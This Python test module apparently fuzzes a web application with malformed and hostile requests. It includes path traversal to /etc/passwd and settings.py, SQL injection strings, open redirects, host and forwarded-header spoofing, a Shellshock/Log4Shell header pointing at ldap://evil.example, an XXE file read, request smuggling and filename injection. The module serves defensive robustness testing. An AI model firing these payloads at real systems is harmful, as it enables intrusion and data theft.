"""Lists of odd requests, each under a name that a failure shows."""

import json
from collections.abc import Iterator
from urllib.parse import quote

from tests.hostile.pages import CANARY
from tests.hostile.wire import Asked

FORM = b"Content-Type: application/x-www-form-urlencoded"
METHODS = (
    b"PUT",
    b"DELETE",
    b"PATCH",
    b"OPTIONS",
    b"HEAD",
    b"TRACE",
    b"CONNECT",
    b"PROPFIND",
    b"GETT",
    b"get",
    b"X" * 300,
)
PATHS = (
    b"/..",
    b"/en/../../../../etc/passwd",
    b"/en/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    b"/en/%252e%252e/%252e%252e/etc/passwd",
    b"/static/../settings.py",
    b"/static/%2e%2e/%2e%2e/config/settings.py",
    b"/static/..%2f..%2fconfig%2fsettings.py",
    b"/static/%5c..%5c..%5cconfig",
    b"/static//etc/passwd",
    b"/static/%00",
    b"/static/tongxing.css%00.html",
    b"/en/%00",
    b"/en/people/%00/",
    b"/en/p/%00/factsheet.csv",
    b"/en/p/%27%20or%201=1--/",
    b"/en/p/" + quote(CANARY).encode() + b"/",
    b"/en/p/" + b"x" * 7000 + b"/",
    b"/en/%ff%fe/",
    b"/en/%c0%ae%c0%ae/",
    b"/en/%f0%9f%92%a9/",
    b"/en/\xe5\xb8\xb8/",
    b"/xx/",
    b"/en//people//",
    b"//evil.example/en/",
    b"/en/people/00000000-0000-0000-0000-000000000000/",
    b"/en/p/1/99999999999999999999999999/",
    b"/en/p/MDGF-1880-H-CHN/-1/",
    b"/en/p/MDGF-1880-H-CHN/99999999999999999999/",
    b"/en/p/MDGF-1880-H-CHN/%d9%a1/",
    b"/en/p/MDGF-1880-H-CHN/99999999999999999999/factsheet.json",
    b"/en;a=b/",
    b"/en/?" + b"&".join(b"a%d=1" % n for n in range(1200)),
    b"/en/find/?q=%00",
    b"/en/find/?q=%ff%fe",
    b"/en/find/?q=" + b"%F0%9F%92%A9" * 400,
    b"/en/find/?q[]=1&q[$ne]=2",
    b"/en/find/?" + quote(CANARY).encode() + b"=1",
    b"/en/sign-in/?next=//evil.example/",
    b"/en/sign-in/?next=javascript:alert(1)",
    b"http://evil.example/en/",
    b"*",
    b"",
)
HOSTS = (
    b"evil.example",
    b"",
    b"127.0.0.1:99999",
    b"127.0.0.1@evil.example",
    b"[::1",
    b"a" * 5000,
    b"localhost\x00",
    b"\xe5\xb8\xb8",
)
FORWARDED = (
    b"X-Forwarded-Host: evil.example",
    b"X-Forwarded-Proto: https, http",
    b"X-Forwarded-For: ' or 1=1--, ::1, %00",
    b"X-Forwarded-Port: -1",
    b'Forwarded: for="[::1";host=evil.example',
    b"X-Original-URL: /en/operations/",
    b"X-Rewrite-URL: /en/operations/",
    b"X-HTTP-Method-Override: DELETE",
    b"X-Real-IP: localhost",
)
HEADERS = (
    b"X-Long: " + b"x" * 7000,
    b"Cookie: tx_session=" + b"x" * 3000,
    b"Cookie: tx_session=\x00; csrftoken=\xff; tx_half=abc; sessionid=' or 1=1",
    b"Cookie: tx_half=gAAAAA; tx_session=",
    b"Cookie: " + b";" * 2000,
    b"Accept-Language: " + b"zh-hans," * 500,
    b"Accept-Language: ../../etc/passwd",
    b"Accept: \xff/\x00",
    b"Accept-Encoding: gzip;q=nan, *;q=-1",
    b'If-None-Match: "' + b"x" * 2000,
    b"If-Modified-Since: Mon, 99 Foo 99999 99:99:99 GMT",
    b"If-Modified-Since: Thu, 01 Jan 0000 00:00:00 GMT",
    b"Range: bytes=9999999999999-0,--1",
    b"HX-Request: true\r\nHX-Current-URL: http://[::1/",
    b"Referer: http://[::1/",
    b"Origin: null",
    b"Authorization: Bearer \xff\xfe",
    b"Authorization: Basic ====",
    b"Expect: 200-maybe",
    b"Upgrade: h2c, websocket",
    b"User-Agent: () { :;}; ${jndi:ldap://evil.example/}",
)


def headers() -> Iterator[tuple[str, Asked]]:
    for method in METHODS:
        yield f"method {method[:20]!r}", Asked(b"/en/", method)
        yield f"method {method[:20]!r} with a body", Asked(b"/en/sign-in/", method, (FORM,), b"login=a&password=b")
    for path in PATHS:
        yield f"path {path[:60]!r}", Asked(path)
    for host in HOSTS:
        yield f"host {host[:40]!r}", Asked(b"/en/", lines=(b"Host: " + host,), bare=True)
    yield "no host", Asked(b"/en/", bare=True)
    yield "two hosts", Asked(b"/en/", lines=(b"Host: evil.example",))
    for line in (*FORWARDED, *HEADERS):
        yield f"header {line[:60]!r}", Asked(b"/en/", lines=(line,))
        yield f"header {line[:60]!r} on a file", Asked(b"/static/tongxing.css", lines=(line,))
    many = tuple(b"X-%d: 1" % n for n in range(300))
    yield "many headers", Asked(b"/en/", lines=many)


DEEP = b"[" * 100_000
BODIES = {
    "deep json": (b"application/json", DEEP),
    "deep json that is read": (b"application/json", DEEP[:8000]),
    "json of another kind": (
        b"application/json",
        b'[{"csp-report": [1]}, 5, {"body": {"effectiveDirective": 3, "blockedURL": []}}]',
    ),
    "deep json in a field": (b"application/x-www-form-urlencoded", b"rows=" + DEEP + b"&ticket=" + DEEP[:2000]),
    "no json": (b"application/json", b"{"),
    "xml": (b"application/xml", b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
    "nothing": (b"", b"login=a"),
    "odd charset": (b"application/x-www-form-urlencoded; charset=utf-7", b"login=+ADw-"),
    "no charset": (b"application/x-www-form-urlencoded; charset=none-such", b"login=%ff"),
    "utf-16": (b"application/x-www-form-urlencoded; charset=utf-16", "login=a".encode("utf-16")),
    "not utf-8": (b"application/x-www-form-urlencoded", b"login=%ff%fe&password=%00&%00=%00"),
    "null": (b"application/x-www-form-urlencoded", b"login=%00&password=%00&code=%00&slip=%00&words=%00&number=%00"),
    "surrogate": (b"application/x-www-form-urlencoded", b"login=%ed%a0%80&password=%ed%a0%80"),
    "many fields": (b"application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(20_000))),
    "no boundary": (b"multipart/form-data", b"--x\r\n"),
    "odd boundary": (b"multipart/form-data; boundary=" + b"x" * 300, b"--x\r\n"),
    "cut multipart": (b"multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="file"; fil'),
    "base64 part": (
        b"multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n--x--\r\n',
    ),
    "many parts": (
        b"multipart/form-data; boundary=x",
        b"".join(b'--x\r\nContent-Disposition: form-data; name="a%d"\r\n\r\n1\r\n' % n for n in range(3000))
        + b"--x--\r\n",
    ),
}
NAMES = (
    "../../../etc/passwd",
    "..\\..\\a.xlsx",
    "/etc/passwd",
    "a\x00.xlsx",
    "a.xlsx\r\nX-Planted: 1",
    "x" * 4000 + ".csv",
    "",
    ".",
    "名册.xlsx/..",
    "a.csv;.exe",
    'a".csv',
    "\u202exslx.exe",
    CANARY + ".csv",
)


def bodies(path: bytes) -> Iterator[tuple[str, Asked]]:
    for name, (kind, body) in BODIES.items():
        yield f"{name} to {path!r}", Asked(path, b"POST", (b"Content-Type: " + kind,), body)
    for length in (b"-1", b"abc", b"99999999999999999999", "٣".encode()):
        yield f"length {length!r}", Asked(path, b"POST", (FORM, b"Content-Length: " + length), b"")
    yield "odd transfer", Asked(path, b"POST", (FORM, b"Transfer-Encoding: cow"), b"0\r\n\r\n")
    chunk = (FORM, b"Transfer-Encoding: chunked")
    yield "odd chunks", Asked(path, b"POST", chunk, b"ZZ\r\nlogin\r\n0\r\n\r\n")
    both = (*chunk, b"Content-Length: 4")
    yield "chunks and a length", Asked(path, b"POST", both, b"0\r\n\r\nGET /en/ HTTP/1.1\r\n\r\n")


def uploads(path: bytes, token: str) -> Iterator[tuple[str, Asked]]:
    """Files with odd names, with odd content that agrees with no name."""
    contents = (
        b"",
        b"PK\x03\x04" + b"\0" * 40,
        b"\x89PNG\r\n",
        b"\xff\xfe\x00",
        b"%PDF-1.4",
        json.dumps({"a": 1}).encode(),
    )
    for number, name in enumerate(NAMES):
        part = b'--xx\r\nContent-Disposition: form-data; name="file"; filename="' + name.encode() + b'"\r\n\r\n'
        secret = b'\r\n--xx\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n' + token.encode()
        body = part + contents[number % len(contents)] + secret + b"\r\n--xx--\r\n"
        yield (
            f"file {name[:30]!r} to {path!r}",
            Asked(path, b"POST", (b"Content-Type: multipart/form-data; boundary=xx",), body),
        )
